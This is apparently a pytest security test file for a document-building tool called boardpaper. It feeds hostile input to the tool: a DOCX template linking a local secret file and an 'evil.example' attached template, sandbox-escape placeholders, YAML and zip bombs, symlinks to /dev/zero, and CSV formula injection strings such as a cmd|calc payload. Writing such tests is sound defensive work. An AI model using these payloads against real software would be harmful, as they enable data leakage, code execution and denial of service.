"""The red-team suite: hostile and careless input, each case asserting the clean outcome.

Every case runs the real command in a child process with a memory cap (RLIMIT_AS)
and a time limit, and asserts: the exit status, one line `file:line:col: error:`
(or the stated note), no traceback, nothing read that should not be, and the
previous outputs intact where there were some. docs/reliability.md lists the
categories and what the user sees.
"""

from __future__ import annotations

import csv
import fcntl
import io
import os
import resource
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from .conftest import MINIMAL, copy_content, write_paper

MEMORY = 1536 * 1024 * 1024  # every case runs in 1.5 GB of address space …
SECONDS = 30  # … and half a minute


def cli(*args, cwd: Path, timeout: int = SECONDS, memory: int = MEMORY):
    def limits():
        resource.setrlimit(resource.RLIMIT_AS, (memory, memory))

    start = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-m", "boardpaper", *map(str, args)],
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        preexec_fn=limits,
    )
    result.seconds = time.monotonic() - start
    return result


def one_error(result, *words: str) -> str:
    assert "Traceback" not in result.stderr, result.stderr[-3000:]
    assert result.returncode == 2, (result.returncode, result.stderr[-2000:])
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr[-2000:]
    assert ": error: " in lines[0], lines[0]
    for word in words:
        assert word in lines[0], lines[0]
    return lines[0]


@pytest.fixture
def example(tmp_path) -> Path:
    return copy_content(tmp_path)


def edit(folder: Path, old: str, new: str) -> None:
    paper = folder / "paper.yaml"
    text = paper.read_text(encoding="utf-8")
    assert old in text, old
    paper.write_text(text.replace(old, new, 1), encoding="utf-8")


# -- local files published --------------------------------------------------------


def _template_with(tmp_path: Path, extra_rels: str, extra_members: dict) -> Path:
    from boardpaper.oxml.house import template_package

    source = zipfile.ZipFile(io.BytesIO(template_package()))
    target = tmp_path / "evil.docx"
    with zipfile.ZipFile(target, "w") as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "word/_rels/document.xml.rels":
                data = data.replace(b"</Relationships>", extra_rels.encode() + b"</Relationships>")
            out.writestr(info.filename, data)
        for name, data in extra_members.items():
            out.writestr(name, data)
    return target


def test_a_template_linking_a_local_file_or_carrying_macros_is_cleaned(tmp_path):
    secret = tmp_path / "secret.png"
    secret.write_bytes(b"\x89PNG secret")
    template = _template_with(
        tmp_path,
        f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'relationships/image" Target="file://{secret}" TargetMode="External"/>'
        '<Relationship Id="rIdY" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/>',
        {"word/vbaProject.bin": b"macro"},
    )
    folder = write_paper(tmp_path / "p", MINIMAL)
    result = cli("build", folder, "-o", tmp_path / "out", "--template", template, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    notes = result.stderr
    assert "removed the macros" in notes and "outside file" in notes
    assert "attached template" in notes
    with zipfile.ZipFile(tmp_path / "out" / "p.docx") as built:
        names = built.namelist()
        rels = built.read("word/_rels/document.xml.rels").decode()
    assert not any("vbaProject" in n for n in names)
    assert "secret.png" not in rels and "evil.example" not in rels


def test_a_template_above_the_project_is_not_picked_up(tmp_path):
    from boardpaper.oxml.house import template_package

    (tmp_path / "templates").mkdir()
    (tmp_path / "templates" / "spcb-paper.docx").write_bytes(template_package())
    project = tmp_path / "project"
    (project / ".git").mkdir(parents=True)
    folder = write_paper(project / "content" / "p", MINIMAL)
    result = cli("build", folder, "-o", project / "out", cwd=project)
    assert result.returncode == 0, result.stderr
    assert "template: <built-in house template>" in result.stdout


# -- outputs as one transaction ------------------------------------------------------


def test_a_write_that_fails_half_way_leaves_the_previous_set(tmp_path, monkeypatch):
    from boardpaper import fsutil, pipeline
    from boardpaper.errors import OutputError

    folder = write_paper(tmp_path / "p", MINIMAL)
    out = tmp_path / "out"
    pipeline.build(folder, out)
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    write_paper(folder, MINIMAL.replace("The first paragraph.", "Changed."))
    calls = []

    def full(fd):
        calls.append(fd)
        if len(calls) == 2:
            raise OSError(28, "No space left on device")

    monkeypatch.setattr(fsutil.os, "fsync", full)
    with pytest.raises(OutputError, match="No space left on device"):
        pipeline.build(folder, out)
    assert {p.name: p.read_bytes() for p in out.iterdir()} == before


def test_a_build_killed_between_renames_is_finished_by_the_next(tmp_path):
    from boardpaper import fsutil

    out = tmp_path / "out"
    out.mkdir()
    (out / "a.docx").write_bytes(b"old a")
    (out / "b.csv").write_bytes(b"old b")
    (out / ".a.docx.99999.x.tmp").write_bytes(b"new a")
    (out / "b.csv").write_bytes(b"new b")  # renamed before the kill
    (out / fsutil.JOURNAL).write_text(".a.docx.99999.x.tmp\ta.docx\n.b.csv.1.tmp\tb.csv\n")
    fsutil.write_all({out / "c.txt": b"c"})
    assert (out / "a.docx").read_bytes() == b"new a"
    assert (out / "b.csv").read_bytes() == b"new b"
    assert not (out / fsutil.JOURNAL).exists()


def test_a_build_waits_its_turn_for_a_folder_in_use_but_not_for_ever(tmp_path, monkeypatch):
    """Builds into one folder take turns (the workers of -j do, every time); one that
    holds the folder longer than BOARDPAPER_LOCK_WAIT seconds is an error."""
    import threading

    folder = write_paper(tmp_path / "p", MINIMAL)
    out = tmp_path / "out"
    out.mkdir()
    fd = os.open(out, os.O_RDONLY)
    fcntl.flock(fd, fcntl.LOCK_EX)
    threading.Timer(1.0, lambda: os.close(fd)).start()  # another build, done in a second
    result = cli("build", folder, "-o", out, cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert result.seconds >= 1.0 and (out / "p.docx").exists()
    fd = os.open(out, os.O_RDONLY)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX)
        monkeypatch.setenv("BOARDPAPER_LOCK_WAIT", "0.5")
        one_error(
            cli("build", folder, "-o", out, cwd=tmp_path),
            "another boardpaper build has been writing to this folder for 0.5 s",
        )
    finally:
        os.close(fd)


def test_many_papers_built_in_parallel_into_a_folder_that_holds_outputs(tmp_path):
    """`build -j 2` into a folder a build wrote before: its workers take turns at the
    folder's lock (the second used to be refused, at random, with exit status 2)."""
    papers = [write_paper(tmp_path / f"p{i}", MINIMAL) for i in range(8)]
    out = tmp_path / "out"
    for _ in range(3):
        result = cli("build", "-q", "-j", "2", *papers, "-o", out, cwd=tmp_path, timeout=120)
        assert result.returncode == 0, result.stderr
    assert sorted(p.name for p in out.glob("*.docx")) == [f"p{i}.docx" for i in range(8)]


def test_two_papers_of_one_name_into_one_folder_are_refused(tmp_path):
    a = write_paper(tmp_path / "a" / "paper", MINIMAL)
    b = write_paper(tmp_path / "b" / "paper", MINIMAL)
    one_error(
        cli("build", "-j", "2", a, b, "-o", tmp_path / "out", cwd=tmp_path),
        "two papers are named 'paper'",
    )
    assert not any((tmp_path / "out").iterdir()), "nothing is written (the folder is made first)"


def _wait_for_sigterm_handler(proc) -> None:
    """Until `proc` catches SIGTERM (Linux: the SigCgt mask of /proc/PID/status), so the
    signal cannot arrive while Python is still starting, when nothing handles it yet."""
    deadline = time.monotonic() + 30
    while time.monotonic() < deadline and proc.poll() is None:
        try:
            status = Path(f"/proc/{proc.pid}/status").read_text()
        except OSError:
            break
        caught = next(line for line in status.splitlines() if line.startswith("SigCgt:"))
        if int(caught.split()[1], 16) & (1 << (signal.SIGTERM - 1)):
            return
        time.sleep(0.01)


def test_sigterm_ends_in_one_line_and_keeps_the_outputs(example, tmp_path):
    out = tmp_path / "out"
    assert cli("build", example, "-o", out, "-q", cwd=tmp_path).returncode == 0
    before = {p.name: p.read_bytes() for p in out.iterdir()}
    proc = subprocess.Popen(
        [sys.executable, "-m", "boardpaper", "build", str(example), "-o", str(out), "-q"],
        stderr=subprocess.PIPE,
        text=True,
    )
    _wait_for_sigterm_handler(proc)
    proc.terminate()
    _, err = proc.communicate(timeout=30)
    assert "Traceback" not in err
    if proc.returncode != 0:  # it may have finished first
        assert err.strip().startswith("boardpaper: error: stopped; ")
    after = {p.name: p.read_bytes() for p in out.iterdir()}
    assert after.keys() == before.keys()


# -- reviewer text and placeholders ------------------------------------------------


@pytest.mark.parametrize(
    "expression, words",
    [
        ("9**(9**9)", "a power that large"),
        ("'x' * 10**9", "plain numbers only"),
        ("'%999999999d' % 1", "plain numbers only"),
        ("'a'.ljust(10**9)", "cannot be looked up"),
        (
            "m.homicide.ending('2022-03', 100000000)",
            "ending() takes a number from 1 to 1,200, not 100,000,000",
        ),
        ("'53'", "typed value '53'"),
        ("().__class__.__base__", "cannot be looked up"),
    ],
)
def test_placeholders_are_bounded(example, tmp_path, expression, words):
    edit(example, "To provide an overview", "{{ " + expression + " }} To provide an overview")
    result = cli("build", example, "-o", tmp_path / "out", cwd=tmp_path, timeout=20)
    one_error(result, words)
    assert result.seconds < 15


# -- unbounded input ---------------------------------------------------------------


def test_a_yaml_alias_bomb_is_bounded(tmp_path):
    bomb = "a: &a [x, x, x, x, x, x, x, x, x]\n" + "".join(
        f"{c}: &{c} [*{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}, *{p}]\n"
        for p, c in zip("abcdefgh", "bcdefghi")
    )
    folder = write_paper(tmp_path / "p", bomb + "cover: *i\n")
    result = cli("build", folder, "-o", tmp_path / "out", cwd=tmp_path)
    line = one_error(result)
    assert len(line) < 700 and result.seconds < 15


@pytest.mark.parametrize(
    "deep",
    [
        "[" * 100000 + "]" * 100000,
        "a:\n"
        + "".join(" " * (2 * i) + f"k{i}:\n" for i in range(1, 1000))
        + " " * 2000
        + "v: 1\n",
    ],
)
def test_deep_nesting_is_refused_before_the_parser(tmp_path, deep):
    folder = write_paper(tmp_path / "p", deep)
    one_error(cli("build", folder, "-o", tmp_path / "out", cwd=tmp_path), "nests more than 64")


def test_a_huge_paper_yaml_is_refused(tmp_path):
    folder = write_paper(tmp_path / "p", MINIMAL + "# " + "x" * (9 * 1024 * 1024) + "\n")
    one_error(cli("build", folder, "-o", tmp_path / "out", cwd=tmp_path), "may be at most")


def test_an_xlsx_bomb_and_a_ten_thousand_column_csv_are_refused(example, tmp_path):
    csv_path = example / "data" / "wide.csv"
    csv_path.write_text(",".join(f"c{i}" for i in range(10000)) + "\n")
    one_error(cli("build", example, "-o", tmp_path / "out", cwd=tmp_path), "columns")
    csv_path.unlink()
    bomb = example / "data" / "surveys.xlsx"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr("xl/sharedStrings.xml", "<sst>" + "a" * (300 * 1024 * 1024) + "</sst>")
    one_error(cli("build", example, "-o", tmp_path / "out", cwd=tmp_path), "zip bomb")


def test_review_of_a_large_hostile_docx_stays_fast(example, tmp_path):
    from boardpaper import pipeline

    draft = pipeline.build(example, tmp_path / "draft").outputs[0]
    with zipfile.ZipFile(draft) as z:
        members = {n: z.read(n) for n in z.namelist()}
    body = members["word/document.xml"].decode()
    ranges = "".join(f'<w:commentRangeStart w:id="{i}"/>' for i in range(20000))
    runs = "".join(
        '<w:ins w:id="1" w:author="x"><w:r><w:t>a</w:t></w:r></w:ins>'
        '<w:del w:id="2" w:author="x"><w:r><w:delText>b</w:delText></w:r></w:del>'
        for _ in range(5000)
    )
    body = body.replace("<w:body>", f"<w:body><w:p>{ranges}{runs}</w:p>", 1)
    body = body.replace("<w:body>", "<w:body>" + "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 2000, 1)
    members["word/document.xml"] = body.encode()
    hostile = tmp_path / "hostile.docx"
    with zipfile.ZipFile(hostile, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    result = cli("review", hostile, "--content", example, cwd=tmp_path, timeout=60)
    assert "Traceback" not in result.stderr and result.returncode in (0, 1), result.stderr[-2000:]
    assert result.seconds < 30


# -- special files -------------------------------------------------------------------


def test_a_fifo_or_a_device_among_the_data_is_refused(example, tmp_path):
    fifo = example / "data" / "zz.csv"
    os.mkfifo(fifo)
    one_error(
        cli("build", example, "-o", tmp_path / "out", cwd=tmp_path, timeout=20),
        "not a regular file",
    )
    fifo.unlink()
    (example / "data" / "zz.csv").symlink_to("/dev/zero")
    one_error(
        cli("build", example, "-o", tmp_path / "out", cwd=tmp_path, timeout=20),
        "is a link to /dev/zero, outside the paper's folder",
    )


def test_a_data_file_linked_from_outside_the_paper_is_refused(example, tmp_path):
    """Read, it would be traced as the paper's own data and not copied by new; a link
    inside the paper is followed."""
    outside = tmp_path / "elsewhere.csv"
    outside.write_text("measure,period,value\nhomicide,2030-01,1\n")
    (example / "data" / "zz.csv").symlink_to(outside)
    error = one_error(
        cli("build", example, "-o", tmp_path / "out", cwd=tmp_path, timeout=20),
        f"'data/zz.csv' is a link to {outside}, outside the paper's folder",
    )
    assert "paper.yaml:" in error
    (example / "data" / "zz.csv").unlink()
    (example / "data" / "inner").mkdir()
    (example / "data" / "inner" / "x.csv").write_text("measure,period,value\nhomicide,2030-01,1\n")
    (example / "data" / "zz.csv").symlink_to(example / "data" / "inner" / "x.csv")
    result = cli("build", example, "-o", tmp_path / "out", cwd=tmp_path, timeout=60)
    assert result.returncode == 0, result.stderr


def test_a_template_that_is_a_fifo_or_not_a_zip(tmp_path):
    folder = write_paper(tmp_path / "p", MINIMAL)
    fifo = tmp_path / "t.docx"
    os.mkfifo(fifo)
    one_error(
        cli("build", folder, "--template", fifo, "-o", tmp_path / "o", cwd=tmp_path, timeout=20),
        "not a regular file",
    )
    fifo.unlink()
    fifo.write_text("not a zip")
    one_error(
        cli("build", folder, "--template", fifo, "-o", tmp_path / "o", cwd=tmp_path),
        "not a zip package",
    )


def test_new_refuses_a_paper_linking_outside_itself(example, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("secret")
    (example / "data" / "notes.txt").symlink_to(secret)
    one_error(
        cli("new", example, tmp_path / "next", "--period", "2022-06", cwd=tmp_path), "outside it"
    )
    assert not (tmp_path / "next").exists()


# -- tracebacks on plausible input ---------------------------------------------------


@pytest.mark.parametrize(
    "old, new, words",
    [
        ("meeting: 2022-05", "meeting: 2022-06-31", "day is out of range"),
        ("  title: ", "  title: .nan #", "must be text"),
        ("period: 2022-03", "period: 0000-01", "between 1900 and 2199"),
        ("  illustrative: yes", "  files: /etc/*\n  illustrative: yes", "absolute path"),
    ],
)
def test_plausible_mistakes_are_one_line(example, tmp_path, old, new, words):
    text = (example / "paper.yaml").read_text(encoding="utf-8")
    if old not in text:
        pytest.skip(f"the example has no {old!r}")
    edit(example, old, new)
    one_error(cli("build", example, "-o", tmp_path / "out", cwd=tmp_path), words)


def test_values_too_large_to_print_are_one_line(example, tmp_path):
    data = example / "data" / "measures.csv"
    rows = data.read_text(encoding="utf-8").splitlines()
    rows = [r if not r.startswith("homicide,2022-01,") else "homicide,2022-01,1e308" for r in rows]
    rows.append("homicide_x,2022-01,1e308")
    data.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = cli("build", example, "-o", tmp_path / "out", cwd=tmp_path)
    assert "Traceback" not in result.stderr and "Warning" not in result.stderr
    assert result.returncode == 2, result.stderr


def test_a_bad_revision_date_is_refused(example, tmp_path):
    one_error(
        cli(
            "redline",
            example,
            example,
            "-o",
            tmp_path / "r.docx",
            "--date",
            "not a date",
            cwd=tmp_path,
        ),
        "not a date and time",
    )
    assert not (tmp_path / "r.docx").exists()


# -- CSV injection -------------------------------------------------------------------


def test_formulas_in_the_data_never_reach_a_csv_as_formulas(example, tmp_path):
    paper = (example / "paper.yaml").read_text(encoding="utf-8")
    measures = example / "measures.yaml"
    text = measures.read_text(encoding="utf-8")
    measures.write_text(
        text.replace("  label: Homicides\n", "  label: '=HYPERLINK(\"http://x\")'\n", 1),
        encoding="utf-8",
    )
    del paper
    result = cli("build", example, "-o", tmp_path / "out", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    csv_out = cli("measures", example, "--csv", cwd=tmp_path).stdout
    cells = [c for row in csv.reader(io.StringIO(csv_out)) for c in row]
    assert any(c.startswith("'=HYPERLINK") for c in cells)
    assert not any(c.startswith("=") or c.startswith("@") for c in cells)
    for path in (tmp_path / "out").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            assert not any(c[:1] in ("=", "@") for c in row), (path, row)


def test_csv_cells_follow_the_owasp_rule():
    from boardpaper.csvcells import cell

    assert cell("=SUM(A1)") == "'=SUM(A1)"
    assert cell("@SUM(A1)") == "'@SUM(A1)"
    assert cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert cell("-2+3") == "'-2+3"
    assert cell("\tx") == "'\tx"
    assert (
        cell("-12%") == "-12%" and cell("+0.4 pts") == "+0.4 pts" and cell("-2865.0") == "-2865.0"
    )


def test_an_encrypted_part_in_a_reviewed_file_is_one_line(example, tmp_path):
    import struct

    from boardpaper import pipeline

    data = bytearray(pipeline.build(example, tmp_path / "d").outputs[0].read_bytes())
    name = b"word/document.xml"
    for signature, flag, length in ((b"PK\x03\x04", 6, 26), (b"PK\x01\x02", 8, 28)):
        start = 0
        while (at := data.find(signature, start)) >= 0:
            size = struct.unpack("<H", data[at + length : at + length + 2])[0]
            offset = 30 if signature == b"PK\x03\x04" else 46
            if data[at + offset : at + offset + size] == name:
                data[at + flag] |= 1  # "encrypted"
            start = at + 4
    reviewed = tmp_path / "locked.docx"
    reviewed.write_bytes(bytes(data))
    one_error(cli("review", reviewed, "--content", example, cwd=tmp_path), "is encrypted")
